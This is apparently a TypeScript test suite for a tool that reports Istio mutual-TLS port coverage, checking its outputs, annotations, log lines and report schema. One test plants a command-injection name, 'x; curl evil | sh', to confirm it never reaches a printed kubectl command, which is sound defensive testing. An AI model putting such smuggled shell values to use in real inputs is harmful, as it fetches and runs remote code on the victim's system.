import {readFileSync} from 'node:fs'
import {Ajv2020} from 'ajv/dist/2020.js'
import formats from 'ajv-formats'
import fc from 'fast-check'
import {parse} from 'yaml'
import {annotations} from '../../src/report/annotations.ts'
import {buildReport} from '../../src/report/build.ts'
import {byteLength} from '../../src/report/budget.ts'
import {outputs} from '../../src/report/outputs.ts'
import {terminal} from '../../src/report/terminal.ts'
import {parts} from './arbitrary.ts'
import {bigReport, downReport, finding, greenReport, inputs, redReport, result, snapshot, stages} from './samples.ts'

const delivered = {
  reportJson: '/r/report.json',
  reportMarkdown: '/r/report.md',
  reportSarif: '/r/report.sarif',
  reportJunit: '/r/report.xml',
  reportHtml: '/r/report.html',
  snapshot: '/r/snapshot.json',
  helmPath: '/tools/helm',
  commentUrl: 'https://e.co/1',
}

test('every output is declared in action.yml, and every declared one is made here', () => {
  const declared = Object.keys((parse(readFileSync('action.yml', 'utf8')) as {outputs: object}).outputs)
  expect(Object.keys(outputs(redReport(), delivered)).sort()).toEqual(declared.sort())
})

test('outputs of the red sample', () => {
  const {findings, ...values} = outputs(redReport(), delivered)
  expect(values).toEqual({
    'callers-at-risk': '',
    'new-findings': '',
    verdict: 'fail',
    reason:
      '1 of 8 workload ports accepts plain text: `orders` port 8080 in `shop`, because PeerAuthentication `legacy-callers` says PERMISSIVE',
    coverage: '87.5',
    'ports-total': '9',
    'ports-proven': '7',
    'ports-configured': '0',
    'ports-exempt': '1',
    'ports-unproven': '0',
    'ports-violated': '1',
    errors: '1',
    warnings: '1',
    'failed-stage': '',
    'report-json': '/r/report.json',
    'report-markdown': '/r/report.md',
    'report-sarif': '/r/report.sarif',
    'report-junit': '/r/report.xml',
    'report-html': '/r/report.html',
    snapshot: '/r/snapshot.json',
    'comment-url': 'https://e.co/1',
    'cluster-uid': '2f6c1c9e-5c0b-4f7e-9a53-9b8d6f0f3a11',
    'istio-version': '1.31.1',
    'helm-path': '/tools/helm',
    changed: 'true',
  })
  expect(JSON.parse(findings ?? '').map((one: {code: string}) => one.code)).toEqual(['M304', 'M405', 'M503'])
})

test('findings stay under 100 kB as UTF-8 and as UTF-16, and stay JSON', () => {
  const {findings = ''} = outputs(bigReport(2000, 2000), delivered)
  expect(Math.max(byteLength(findings), findings.length * 2)).toBeLessThanOrEqual(100_000)
  expect(JSON.parse(findings).length).toBeGreaterThan(50)
})

test('annotations: most severe first, nine of a level, on their line, infos only on a line', () => {
  const many = (severity: 'error' | 'warning' | 'info', count: number, file?: string) =>
    Array.from({length: count}, (_, at) =>
      finding({severity, subject: {kind: 'PeerAuthentication', name: `p${at}`, ...(file ? {file} : {})}}),
    )
  const results = [
    result('M405', {findings: many('warning', 12)}),
    result('M304', {findings: many('error', 12)}),
    result('M503', {findings: [...many('info', 2), ...many('info', 1, 'a.yaml')]}),
  ]
  const report = buildReport({inputs: inputs(), snapshot: snapshot(), endpoints: [], results, stages, notes: []})
  const made = annotations(report)
  expect(made.map(({level}) => level)).toEqual([...Array(9).fill('error'), ...Array(9).fill('warning'), 'notice'])
  expect(made.at(-1)).toMatchObject({file: 'a.yaml', line: 1})
  expect(made[0]).toEqual({
    level: 'error',
    title: 'M304 A port is excepted from mutual TLS',
    message: expect.stringMatching(/^PeerAuthentication p0: port 8080 is PERMISSIVE.* Remove the port from/),
  })
})

test('the log ends with what failed, its fix, the files and the verdict', () => {
  const lines = terminal(redReport(), ['/r/report.json'])
  expect(lines[0]).toBe('❌ M304 A port is excepted from mutual TLS: PeerAuthentication shop/legacy-callers')
  expect(lines).toContain(`     kubectl -n shop patch peerauthentication legacy-callers --type merge -p '{"spec":{"portLevelMtls":null}}'`)
  expect(lines.at(-2)).toBe('Report: /r/report.json')
  expect(lines.at(-1)).toMatch(/^❌ fail: 1 of 8 workload ports accepts plain text/)
  expect(terminal(greenReport(), [])).toEqual(['✅ pass: All 8 workload ports refuse plain text, proven on the live cluster'])
})

test('a name that a shell could misread reaches no command', () => {
  const report = redReport()
  const endpoints = report.endpoints.map((row) => ({
    ...row,
    decidedBy: {kind: 'PeerAuthentication', namespace: 'shop', name: 'x; curl evil | sh'},
  }))
  expect(terminal({...report, endpoints, results: []}, []).join('\n')).not.toMatch(/kubectl.*curl/)
})

const ajv = new Ajv2020({strict: true, strictTypes: false, allErrors: true})
formats.default(ajv)
const valid = ajv.compile(JSON.parse(readFileSync('schema/report.schema.json', 'utf8')))

test.each([
  ['red', redReport()],
  ['green', greenReport()],
  ['down', downReport()],
  ['big', bigReport(50, 5)],
])('report.json of the %s sample keeps to its schema', (_, report) => {
  valid(JSON.parse(JSON.stringify(report)))
  expect(valid.errors).toBeNull()
})

test('report.json keeps to its schema whatever the report, and an unknown field does not', () => {
  fc.assert(
    fc.property(parts, (given) => {
      const json = JSON.parse(JSON.stringify(buildReport(given)))
      valid(json)
      expect(valid.errors).toBeNull()
      expect(valid({...json, more: 1})).toBe(false)
      expect(valid({...json, verdict: {...json.verdict, status: 'ok'}})).toBe(false)
    }),
    {numRuns: 100},
  )
})
